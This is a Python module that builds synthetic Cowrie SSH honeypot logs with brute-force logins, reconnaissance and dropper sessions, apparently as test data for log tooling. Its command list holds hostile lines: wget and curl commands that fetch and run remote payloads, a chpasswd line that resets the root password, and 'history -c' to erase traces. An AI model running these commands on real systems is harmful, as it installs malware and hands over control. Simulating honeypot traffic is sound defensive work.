"""A synthetic Cowrie log with the mix of a busy honeypot: brute force, droppers, a few people."""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

START = datetime(2026, 11, 1, tzinfo=UTC)
HOSTS = 5_000
"""Source addresses; as in real logs, a few of them come back all day."""
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem",
    "w",
    "whoami",
    "ls -la /var/run",
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://203.0.113.{n}/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "curl -O http://203.0.113.{n}/x86; chmod +x x86; ./x86",
    "echo 'root:{n}pw'|chpasswd",
    "crontab -l",
    "history -c",
    "/bin/busybox CORONA{n}",
    "export PATH=/usr/local/bin:$PATH",
    "nproc",
    "exit",
)


def lines(count: int, seed: int = 7, *, after: int = 0) -> Iterator[str]:
    """``count`` lines in sessions of some ten lines each; one session in four gets a shell.

    The first one begins when ``after`` others have begun: a log that goes on where another one ended.
    """
    rng = random.Random(seed)
    written = 0
    number = after
    while written < count:
        for record in _session(rng, number):
            if written < count:
                yield json.dumps(record)
                written += 1
        number += 1


def _session(rng: random.Random, number: int) -> Iterator[dict[str, Any]]:
    at = START + timedelta(seconds=number * 3.7)
    host = int(rng.paretovariate(0.5)) % HOSTS
    shared = {
        "session": f"{rng.getrandbits(48):012x}",
        "src_ip": f"198.51.{host // 250}.{host % 250 + 1}",
        "src_port": rng.randrange(1024, 65535),
        "dst_ip": "192.0.2.10",
        "dst_port": 2222,
        "protocol": "ssh",
        "sensor": "svr04",
        "uuid": "6f1e2a3c-0000-11f0-8000-000000000000",
    }

    def record(eventid: str, **own: object) -> dict[str, Any]:
        nonlocal at
        at += timedelta(milliseconds=rng.randrange(20, 900))
        stamp = at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        return {"eventid": f"cowrie.{eventid}", **own, "message": "…", "timestamp": stamp, **shared}

    yield record("session.connect")
    yield record("client.version", version="SSH-2.0-Go")
    yield record(
        "client.kex",
        hassh=f"{rng.randrange(40):032x}",
        hasshAlgorithms="curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
    )
    for _ in range(rng.randrange(1, 6)):
        yield record("login.failed", username="root", password=f"pass{rng.randrange(3000)}")
    if rng.random() < 0.25:  # noqa: PLR2004 - one session in four
        yield record("login.success", username="root", password="3245gs5662d34")
        for command in rng.choices(COMMANDS, k=rng.randrange(3, 12)):
            yield record("command.input", input=command.replace("{n}", str(rng.randrange(250))))
    yield record("session.closed", duration_ms=rng.randrange(500, 60_000))
